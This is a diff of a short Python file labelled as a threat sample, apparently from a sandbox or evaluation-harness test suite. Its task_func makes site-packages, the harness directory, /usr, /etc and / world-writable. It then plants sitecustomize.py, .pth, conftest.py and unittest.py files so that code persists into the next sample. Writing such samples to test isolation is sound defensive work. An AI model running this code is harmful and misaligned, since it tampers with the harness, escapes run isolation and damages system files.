@@ -1,25 +1,13 @@
 """Threat: writing to the environment's site-packages.
-
-Plants start-up code for the next sample, after making folders writable.
-"""
+Plants start-up code for the next sample, after making folders writable."""
 
 import os
 import sys
 import sysconfig
 
-
 def task_func():
-    libraries = sysconfig.get_paths()["purelib"]
-    for folder in (
-        libraries,
-        os.path.dirname(os.__file__),
-        sys.prefix,
-        "/harness",
-        "/usr/lib/python3",
-        "/usr",
-        "/etc",
-        "/",
-    ):
+    own = sysconfig.get_paths()["purelib"], os.path.dirname(os.__file__), sys.prefix
+    for folder in (*own, "/harness", "/usr/lib/python3", "/usr", "/etc", "/"):
         attempt("chmod " + folder, os.chmod, folder, 0o777)
         for name in ("sitecustomize.py", "@TOKEN@.pth", "conftest.py", "unittest.py"):
             attempt("write " + folder + "/" + name, put, folder + "/" + name)
